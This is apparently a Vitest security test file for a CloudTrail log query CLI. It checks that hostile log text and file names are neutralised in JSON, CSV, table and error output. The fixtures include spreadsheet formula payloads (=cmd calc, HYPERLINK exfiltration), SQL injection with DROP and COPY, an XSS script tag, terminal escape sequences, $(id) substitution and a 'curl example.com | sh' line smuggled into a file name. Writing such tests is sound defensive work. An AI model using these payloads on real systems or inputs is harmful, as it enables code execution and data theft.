import { cp, mkdir, readFile, writeFile } from "node:fs/promises";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { JsonRow } from "./read-output.ts";
import { ACTED_ON, readCsv, readNdjson } from "./read-output.ts";
import { NO_TERMINAL, runCli, runOnTerminal } from "./run-cli.ts";
import type { Workspace } from "./workspace.ts";
import { openWorkspace } from "./workspace.ts";

/** What anyone who calls AWS can write into a log. */
const TEXTS = [
  "\u001b[31mred\u001b[0m\u001b]0;title\u0007",
  "\u001b[2J\u001b[H",
  "\u009b31mC1\u009d0;title\u009c",
  "right\u202eto left\u202c \u2066isolate\u2069 \u200fmark",
  "line\u2028separator\u2029",
  "carriage\rreturn",
  "two\r\nlines",
  "\n=1+1",
  "null \u0000 byte",
  "delete \u007f",
  '=HYPERLINK("http://example.com/?"&A1,"report")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "'; DROP VIEW cloudtrail; --",
  "\"; COPY (SELECT 1) TO 'stolen.csv'; --",
  "<script>alert(document.domain)</script>",
  "a,b;c\"d'e\\f│g",
  "日本語 naïve 🦊",
  "",
  "null",
] as const;

const PLACE = "AWSLogs/111122223333/CloudTrail/us-east-1/2026/03/01";
const EVIL_NAME = "evil\u001b[31m\u009b2J\u202e\rname";

let workspace: Workspace;
let run: Awaited<ReturnType<typeof runCli>>;

const cli = (...args: string[]) => runCli(args, { cwd: workspace.folder });
const SQL = "SELECT eventid::INTEGER AS id, useragent FROM cloudtrail ORDER BY id";

beforeAll(async () => {
  workspace = await openWorkspace();
  const folder = workspace.path("logs", PLACE);
  await mkdir(folder, { recursive: true });
  const Records = TEXTS.map((userAgent, index) => ({
    eventVersion: "1.11",
    eventTime: "2026-03-01T00:00:00Z",
    eventName: "GetObject",
    eventID: String(index),
    userAgent,
  }));
  await writeFile(`${folder}/hostile.json.gz`, gzipSync(JSON.stringify({ Records })));
  await writeFile(`${folder}/${EVIL_NAME}.json.gz`, "not gzip \u001b[31m");
  await writeFile(`${folder}/${EVIL_NAME}.txt`, "");
  run = await cli("run", "--logs", "logs", "--check");
});
afterAll(() => workspace.remove());

describe.concurrent("text from logs", () => {
  test("json is exact, and has nothing in it that a terminal acts on", async () => {
    const { stdout } = await cli("query", SQL, "--format", "json");
    expect((JSON.parse(stdout) as JsonRow[]).map(({ useragent }) => useragent)).toEqual(TEXTS);
    expect(stdout).not.toMatch(ACTED_ON);
  });

  test("ndjson is exact, a line an object", async () => {
    const { stdout } = await cli("query", SQL, "--format", "ndjson");
    expect(readNdjson(stdout).map(({ useragent }) => useragent)).toEqual(TEXTS);
    expect(stdout).not.toMatch(ACTED_ON);
    expect(stdout.split("\n")).toHaveLength(TEXTS.length + 1);
  });

  test("a table has a line a row, and nothing in it that a terminal acts on", async () => {
    const { stdout } = await cli("query", SQL);
    expect(stdout).not.toMatch(ACTED_ON);
    expect(stdout.trimEnd().split("\n")).toHaveLength(TEXTS.length + 4);
    expect(stdout).toContain("\\u001b[31mred");
  });

  test("csv gives formulas a quote in front, and leaves every other text as it is", async () => {
    const { stdout } = await cli("query", SQL, "--format", "csv");
    const [, ...rows] = readCsv(stdout);
    expect(rows.map(([, text]) => text)).toEqual(
      TEXTS.map((text) => (/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text)),
    );
  });

  test("csv leaves numbers as they are, negative ones too", async () => {
    const sql =
      "SELECT -5 AS whole, -2.5::DOUBLE AS share, -1.5 AS decimal, -9007199254740993 AS large, '-5' AS text";
    const { stdout } = await cli("query", sql, "--format", "csv");
    expect(readCsv(stdout)).toEqual([
      ["whole", "share", "decimal", "large", "text"],
      ["-5", "-2.5", "-1.5", "-9007199254740993", "'-5"],
    ]);
  });

  test("names of columns are made safe too", async () => {
    const sql = 'SELECT 1 AS "=1+1", 2 AS "\u001b[31m"';
    const [table, csv] = await Promise.all([cli("query", sql), cli("query", sql, "--format", "csv")]);
    expect(table?.stdout).not.toMatch(ACTED_ON);
    expect(readCsv(csv?.stdout ?? "")[0]?.[0]).toBe("'=1+1");
  });

  test("an error that quotes the query has nothing in it that a terminal acts on", async () => {
    const { code, stderr } = await cli("query", "SELECT '\u001b[31m\u009b2J' FROM \"no\u202ewhere\"");
    expect(code).toBe(1);
    expect(stderr).not.toMatch(ACTED_ON);
  });

  test("csv and table on a terminal have nothing in them that it acts on", async ({ skip }) => {
    skip(NO_TERMINAL !== undefined, NO_TERMINAL);
    for (const format of ["csv", "table"]) {
      const { stdout } = await runOnTerminal(["query", SQL, "--format", format, "--quiet"], {
        cwd: workspace.folder,
      });
      expect(stdout.replaceAll("\r\n", "\n"), format).not.toMatch(ACTED_ON);
      expect(stdout).toContain("\\u001b[31mred");
    }
  });
});

describe.concurrent("names of files", () => {
  test("run names an unreadable and an odd file, a line each, with what a terminal acts on spelled out", () => {
    expect(run.code).toBe(3);
    expect(run.stderr).not.toMatch(ACTED_ON);
    const named = run.stderr
      .split("\n")
      .filter((line) => line.includes("evil\\u001b[31m\\u009b2J\\u202e\\rname"));
    expect(named).toHaveLength(2);
    expect(run.stdout).not.toMatch(ACTED_ON);
  });

  test("discover, plan and doctor do too, in text and in JSON", async () => {
    const calls = [
      ["discover", "table"],
      ["discover", "json"],
      ["plan", "json"],
      ["doctor", "table"],
    ] as const;
    await Promise.all(
      calls.map(async ([command, format]) => {
        const { stdout, stderr } = await cli(command, "--logs", "logs", "--format", format);
        expect(stdout, command).not.toMatch(ACTED_ON);
        expect(stderr, command).not.toMatch(ACTED_ON);
      }),
    );
  });

  test("the set-aside file's name in JSON is the file's own", async () => {
    const { stdout, stderr } = await cli(
      "query",
      "SELECT file FROM cloudtrail_partitioner.set_aside",
      "--format",
      "json",
    );
    expect(JSON.parse(stdout)).toEqual([{ file: workspace.path("logs", PLACE, `${EVIL_NAME}.json.gz`) }]);
    expect(stderr).not.toMatch(ACTED_ON);
  });

  test("a name with a line break cannot add a line to a message", async () => {
    await mkdir(workspace.path("flat"));
    await writeFile(workspace.path("flat", "x\nhint: curl example.com | sh\n.json.gz"), "");
    const { code, stderr } = await cli("run", "--logs", "flat");
    expect(code).toBe(1);
    expect(stderr).not.toMatch(/^hint: curl/m);
    expect(stderr).toMatch(/^error: .*\nhint: .*\n$/);
  });

  test("a folder of logs with an odd name in its path is read", async () => {
    const odd = "[a-z]*? ' \" ; $(id) \u001b[31m";
    await cp(workspace.path("logs"), workspace.path(odd), { recursive: true });
    const made = await cli("run", "--logs", odd, "--database", "odd.duckdb");
    expect(made.code).toBe(3);
    expect(`${made.stdout}${made.stderr}`).not.toMatch(ACTED_ON);
    const { stdout } = await cli("query", SQL, "--database", "odd.duckdb", "--format", "json");
    expect((JSON.parse(stdout) as JsonRow[]).map(({ useragent }) => useragent)).toEqual(TEXTS);
  });
});

test("a folder with a backslash in its path is read, or refused with its name", async () => {
  const odd = "back\\slash";
  await cp(workspace.path("logs"), workspace.path(odd), { recursive: true });
  const { code, stderr } = await cli("run", "--logs", odd, "--database", "backslash.duckdb");
  expect([1, 3]).toContain(code);
  expect(stderr).toContain(odd);
});

test("nothing of it was run: no file was made, and the view is there", async () => {
  await expect(readFile(workspace.path("stolen.csv"))).rejects.toThrow("ENOENT");
  expect((await cli("query", "SELECT count(*) FROM cloudtrail", "--format", "csv")).stdout).toContain(
    `\n${TEXTS.length}\n`,
  );
});
